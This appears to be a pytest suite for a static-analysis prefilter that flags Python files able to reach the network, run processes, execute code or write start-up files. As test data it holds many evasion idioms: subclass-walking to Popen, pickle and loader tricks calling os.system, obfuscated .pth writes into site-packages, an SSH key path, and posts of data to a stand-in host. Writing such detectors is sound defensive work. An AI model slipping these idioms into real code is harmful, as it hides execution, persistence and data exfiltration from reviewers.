"""The prefilter drops no file in which the walk would see something that matters by itself."""

from __future__ import annotations

import ast
import sys
from typing import TYPE_CHECKING

import pytest
from spelling import otherwise

from veln_hook.source import libraries
from veln_hook.source import vocabulary as v
from veln_hook.source.analysis import analyse_python
from veln_hook.source.graph import BITS, STRONG
from veln_hook.source.imports import imports_of, leads_of
from veln_hook.source.known import kind_of
from veln_hook.source.lexing import code_of
from veln_hook.source.parts import has_parts
from veln_hook.source.vocabulary import CALLS

if TYPE_CHECKING:
    from veln_hook.source.facts import FileFacts

# What removes something matters by what that is: test_attack_destruction.py has it.
_STRONG = sorted(name for name, kind in CALLS.items() if BITS[kind] & STRONG and kind != v.DESTROY)
_OF_LIBRARIES = sorted(
    f"{library}.{name}{called}"
    for table, called in (
        (libraries.CLIENTS, "().publish"), (libraries.REQUESTS, ""), (libraries.PROCESSES, ""), (libraries.EXECUTES, ""),
    )
    for library, names in table.items()
    for name in names.split()
    if kind_of(f"{library}.{name}{called}") and not name.endswith("Loader")
)  # fmt: skip
_NO_IMPORT = ("exec", "eval", "compile", "execfile")
_MODULES = {
    "urllib.request", "six.moves.urllib.request", "http.client", "xmlrpc.client", "dns.resolver", "asyncio.subprocess",
    "ctypes.windll.shell32", "ctypes.windll.kernel32", "ctypes.windll.crypt32", "ctypes.windll", "ctypes.cdll",
    "pip._internal", "pip._internal.cli.main", "distutils.spawn", "setuptools.distutils.spawn", "requests.api",
    "requests.sessions", "curl_cffi.requests", "botocore.vendored.requests", "pip._vendor.requests",
    "pip._vendor.urllib3", "requests_futures.sessions", "paho.mqtt.client", "importlib.util", "importlib.machinery",
    "urllib.robotparser", "multiprocessing.connection", "multiprocessing.managers", "logging.handlers",
    "urllib3.connectionpool", "websockets.sync.client", "websockets.client", "websockets.asyncio.client",
    "importlib._bootstrap_external", "logging.config", "pynput.keyboard", "pynput.mouse", "PIL.ImageGrab", "robloxpy.Utils",
}  # fmt: skip


def _split(name: str) -> tuple[str, str]:
    """Return the module of a dotted name, and what is in it."""
    module = max((each for each in _MODULES if name.startswith(f"{each}.")), key=len, default="")
    module = module or name.partition(".")[0]
    return module, name[len(module) + 1 :]


def _forms(name: str) -> dict[str, str]:
    """Return sources that call something, as the walk follows it."""
    module, rest = _split(name)
    first, dot, tail = rest.replace("()", "(1)").partition(".")
    bare = first.replace("(1)", "")
    made = first[len(bare) :]
    called = f"{dot}{tail}('x')"
    return {
        "plain": f"import {module}\n{module}.{first}{called}\n",
        "renamed module": f"import {module} as zz\nzz.{first}{called}\n",
        "taken": f"from {module} import {bare}\n{first}{called}\n",
        "taken and renamed": f"from {module} import {bare} as zz\nzz{made}{called}\n",
        "taken in parentheses": f"from {module} import (  # why\n    loads,\n    {bare} as zz,\n)\nzz{made}{called}\n",
        "assigned module": f"import {module}\nzz = {module}\nzz.{first}{called}\n",
        "assigned function": f"import {module}\nzz = {module}.{bare}\nzz{made}{called}\n",
        "by getattr": f"import {module}\ngetattr({module}, '{bare}'){made}{called}\n",
        "in a function": f"def f():\n    import {module} as zz\n    return zz.{first}{called}\n",
        "after a semicolon": f"x = 1; import {module} as zz; zz.{first}{called}\n",
        "perhaps": f"try:\n    import {module} as zz\nexcept ImportError:\n    zz = None\nzz.{first}{called}\n",
        "one or the other": f"import {module}\nzz = None or {module}\nzz.{first}{called}\n",
        "either": f"import {module}\nzz = {module} if x else None\nzz.{first}{called}\n",
        "walrus": f"import {module}\nif zz := {module}:\n    zz.{first}{called}\n",
        "a default": f"import {module}\ndef f(x=1, *, zz={module}):\n    zz.{first}{called}\n",
        "one of several": f"import {module}, acme\nfor zz in {module}, acme:\n    zz.{first}{called}\n",
        "an item": f"import {module}\n{{'a': {module}}}['a'].{first}{called}\n",
        "over two lines": f"import {module}\n(1 and {module}  # why\n .{first}{called})\n",
        "in an f-string": f'import {module}\nf"{{{module}.{bare}{made}{called}}}"\n',
    }


def _kinds(facts: FileFacts) -> set[str]:
    return {each.kind for scope in facts.scopes for each in scope.capabilities}


def _matters(facts: FileFacts) -> bool:
    return any(BITS.get(kind, 0) & STRONG for kind in _kinds(facts))


@pytest.mark.parametrize("name", [*(name for name in _STRONG if name not in _NO_IMPORT), *_OF_LIBRARIES])
def test_what_the_walk_would_see_is_parsed(name):
    seen = 0
    for form, source in _forms(name).items():
        data = source.encode()
        if _matters(analyse_python(data, always=True)):
            seen += 1
            assert not analyse_python(data).light, (form, source)
    assert seen, "the walk sees none of them"


@pytest.mark.parametrize("form", ["taken in parentheses", "in a function", "over two lines"])
@pytest.mark.parametrize("name", [name for name in _STRONG if name not in _NO_IMPORT])
def test_how_it_is_written_does_not_matter(name, form):
    source = _forms(name)[form]
    kinds = _kinds(analyse_python(source.encode(), always=True))
    for how, data in otherwise(source).items():
        assert ast.dump(ast.parse(data)) == ast.dump(ast.parse(source)), how
        assert kinds <= _kinds(analyse_python(data)), (how, data)


_FOUND = {
    "shutil.os": "import shutil\nshutil.os.system('id')", "p.os": "import os.path as p\np.os.popen('id')",
    "tempfile._os": "import tempfile\ntempfile._os.system('id')", "taken": "from glob import os\nos.system('id')",
    "a builtin's module": "print.__self__.exec(x)", "its import": "print.__self__.__import__('os').system('id')",
    "globals of a function": "import shutil\nshutil.copy.__globals__['os'].system('id')",
    "builtins of a frame": "import sys\nsys._getframe().f_builtins['exec'](x)",
    "a loader": "__loader__.load_module('os').system('id')", "a spec's": "__spec__.loader.load_module('os').system('id')",
    "pkgutil": "import pkgutil\npkgutil.resolve_name('os:system')('id')",
    "pydoc": "import pydoc\npydoc.locate('os.system')('id')",
    "unittest": "import unittest.mock\nunittest.mock._importer('os').system('id')",
    "logging": "import logging.config\nlogging.config._resolve('os.system')('id')",
    "all classes": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')",
    "all classes by mro": "''.__class__.__mro__[-1].__subclasses__()[99]('id')",
    "object": "[c for c in object.__subclasses__() if 'Popen' in str(c)]",
    "getattribute": "import os\nos.__getattribute__('system')('id')",
    "modules by getattr": "import sys\ngetattr(sys, 'modules')['os'].system('id')",
    "modules by get": "import sys\nsys.modules.get('os').system('id')",
    "modules by item": "import sys\nsys.modules.__getitem__('os').system('id')",
    "modules copied": "import sys\ndict(sys.modules)['os'].system('id')",
    "decorated": "@exec\n@input\nclass X: pass",
    "decorated function": "import os\n@os.system\n@(lambda f: 'id')\ndef f(): pass",
    "an operator": "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']",
    "handed back": "import os\ndef f():\n    return os\nf().system('id')",
    "put into globals": "import os\nglobals()['o'] = os\no.system('id')",
    "put into a class": "import os\nclass A: pass\nsetattr(A, 'o', os)\nA.o.system('id')",
    "handed to a function": "import os\ndef f(o): o.system('id')\nf(os)",
    "an event loop": "import asyncio\nasyncio.get_event_loop().subprocess_shell(object, 'id')",
    "a configuration": "import logging.config\nlogging.config.dictConfig({'handlers': {'a': {'()': 'os.system'}}})",
    "a class of its class": "import subprocess\nclass P(subprocess.Popen): pass\nclass Q(P): pass\nQ('id')",
    "an annotation that is a text": 'from pydantic import BaseModel\nclass A(BaseModel):\n    x: "exec(y)"',
    "compiled": "import types\ntypes.FunctionType(compile(x, '', 'exec'), {})()",
    "pickled": "import pickle\nx = b'cos\\nsystem\\n(S\"id\"\\ntR.'\npickle.loads(x)",
}  # fmt: skip


_CONNECTED = {
    "a class of its class": "import requests\nclass S(requests.Session): pass\nS().post('https://x.example', data=x)",
    "its own method": (
        "from requests import Session\nclass S(Session):\n    def f(self): self.post('https://x.example', data=x)"
    ),
    "datagrams of a loop": "loop.create_datagram_endpoint(object, remote_addr=('x.example', 9))",
    "a list": "import requests\nfor f in (requests.post,): f('https://x.example', data=x)",
}


@pytest.mark.parametrize("name", _CONNECTED)
def test_a_request_is_known_whatever_makes_it(name):
    assert v.NET in _kinds(analyse_python(_CONNECTED[name].encode()))


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("HERE + '/../door'", set()), ("'/run/acme.sock'", set()), ("('x.example', 80)", {v.NET}), ("HERE", {v.NET}),
        ("(HERE + '/', 80)", {v.NET}), ("'/var/run/docker.sock'", {v.NET}),
    ],
)  # fmt: skip
def test_a_socket_of_this_machine_is_no_network(address, expected):
    source = f"import socket\nsocket.socket(socket.AF_UNIX).connect({address})\n"
    assert _kinds(analyse_python(source.encode())) & {v.NET} == expected


def test_what_loads_native_code_into_a_database_is_known():
    assert v.NATIVE in _kinds(analyse_python(b"def f(connection):\n    connection.load_extension('x')\n"))


@pytest.mark.parametrize("name", _FOUND)
def test_what_nobody_imported_is_known_by_its_name(name):
    facts = analyse_python(_FOUND[name].encode())
    assert _kinds(facts) & {v.PROC, v.EXEC, v.DECODE}


_STARTS = {
    "a path from parts": "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.p' + 'th'), 'w').write(x)",
    "pathlib": "import site, pathlib\n(pathlib.Path(site.getsitepackages()[0]) / ('x.p' + 'th')).write_text(x)",
    "io": "import io, os\nio.open(os.path.dirname(os.__file__) + '/x.p' + 'th', 'w').write(x)",
    "copied": "import os, shutil\nshutil.copy('a', os.path.dirname(os.__file__) + '/x.p' + 'th')",
    "opened by its number": "import os\nos.write(os.open(os.path.dirname(os.__file__) + '/x.p' + 'th', 1), x)",
    "an f-string": "import os\nopen(f'{os.path.dirname(os.__file__)}/{\"htp.x\"[::-1]}', 'w').write(x)",
}


@pytest.mark.parametrize("name", _STARTS)
def test_a_start_up_file_is_known_by_its_path_however_that_is_put_together(name):
    assert v.STARTUP_FILE in _kinds(analyse_python(_STARTS[name].encode()))


@pytest.mark.skipif(sys.version_info < (3, 10), reason="older Pythons have no match")
def test_what_a_case_binds_is_known_by_its_name():
    assert _kinds(analyse_python(b"import os\nmatch os:\n    case m: m.system('id')\n")) == {v.PROC}


@pytest.mark.parametrize(
    "source",
    [
        b"from acme import (" + b"a, " * 30_000 + b"b)\n",
        b"import " + b"a, " * 3_000 + b"b\n",
        b"from" + b" " * 2_000 + b"acme import b\n",
        b"import" + b" " * 5_000 + b"acme\n",
    ],
    ids=["in parentheses", "on a line", "blanks before", "blanks behind"],
)
def test_an_import_that_is_too_long_to_be_read_is_parsed(source):
    assert not analyse_python(source).light


@pytest.mark.parametrize(
    "source",
    [
        "exec(x)", "exec (x)", "eval(x)", "e = exec\ne(x)", "list(map(exec, [x]))", "[exec][0](x)", "(exec)(x)",
        "{'a': exec}['a'](x)", "f = lambda x: exec(x)", "x and eval(x)", "eval\\\n(x)", "exec\t(x)", "g(eval)",
        "__builtins__.exec(x)", "import builtins\nbuiltins.exec(x)", "from builtins import exec as e\ne(x)",
        "import builtins as b\nb.exec(x)", "import sys\nsys.modules['os'].system('id')",
        "from sys import modules\nmodules['os'].system('id')", "import sys as s\ns.modules['os'].system('id')",
        "import sys\nm = sys.modules\nm['os'].system('id')", "__import__('os').system('id')",
        "globals()['__builtins__']['exec'](x)", "vars()['x'](1)", "locals()['x'](1)",
        "from os import *\nsystem('id')", "from subprocess import *\nrun('id')",
    ],
)  # fmt: skip
def test_what_executes_or_resolves_is_parsed(source):
    assert not analyse_python(source.encode()).light


@pytest.mark.parametrize(
    "source",
    [
        "import ast\nast.literal_eval('1')", "self.eval(x)", "model.eval()", "evaluate(x)", "cursor.execute('SELECT 1')",
        "import sys\nsys.modules[__name__].x = 1", "import platform\nimport os\nplatform.system()\nos.getcwd()",
        "import os\ncursor.execute(os.path.join('a', 'b'))", "from socket import timeout",
        "import sys\ngetattr(sys, 'frozen', False)\nif 'x' in sys.modules: pass", "import os\nf(os=1)",
        "x = \"\"\"\nimport os\nos.system('id')\n\"\"\"", "# import os, os.system('id')",
        "import re\nre.compile('x')", "x = f'os.system {x}'", "import os\nhasattr(os, 'fork')",
        "class A:\n    def compile(self): pass", "locals().update(x)", "'%(x)s' % locals()",
        "f.__code__.co_name", "super().__getattribute__(x)",
        "from http.client import HTTPException", "from requests.exceptions import ConnectionError",
        "import requests\n\n# says nothing\n", "'see `exec`'", "from urllib.parse import urlencode",
    ],
)  # fmt: skip
def test_what_does_nothing_is_not(source):
    assert analyse_python(source.encode()).light


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.environ['X_TOKEN']", True),
        ("from os import environ", True),
        ("from base64 import b64decode as d", True),
        ("p = '~/.ssh/id_rsa'", True),
        ("import os\nos.getcwd()", False),
        ("import json\njson.loads('1')", False),
    ],
)
def test_parts_of_something(source, expected):
    data = source.encode()
    assert has_parts(data, [each.module for each in imports_of(data)]) is expected


@pytest.mark.parametrize(
    ("source", "leads"),
    [
        ("from .a import b, c as d", [".a.b", ".a.c"]),
        ("from acme.a import b, c as d", ["acme.a.b", "acme.a.c"]),
        ("from . import a", [".a!"]),
        ("from . import a\na.f(a.g.h)", [".a!", ".a.f", ".a.g.h"]),
        ("from . import a as z\nxz.f(z.g)", [".a!", ".a.g"]),
        ("from . import a\nx = a", [".a!", ".a.*"]),
        ("from . import a\nf(1, a)", [".a!", ".a.*"]),
        ("from .a import *", [".a.*"]),
        ("import acme.a\nacme.a.f()", ["acme!", "acme.a.f", "acme.a"]),
        ("import acme.a as a\na.f()", ["acme.a!", "acme.a.f"]),
        ("import json, os\nfrom typing import Any", []),
        (
            "def f():\n    from acme.a import (\n        b,  # why\n        c,\n    )\n",
            ["acme.a.b", "acme.a.c"],
        ),
    ],
)
def test_where_a_file_may_lead(source, leads):
    code = code_of(source.encode())
    found = leads_of(code, imports_of(code))
    assert len(found) == len(set(found))
    assert set(found) == set(leads)


def test_strong_kinds_are_those_without_which_nothing_is_held():
    assert {kind for kind in v.KINDS if BITS[kind] & STRONG} == {
        v.NET, v.DNS, v.PROC, v.EXEC, v.SPY, v.NATIVE, v.LOAD, v.STARTUP_FILE, v.DESTROY, v.STEER,
    }  # fmt: skip
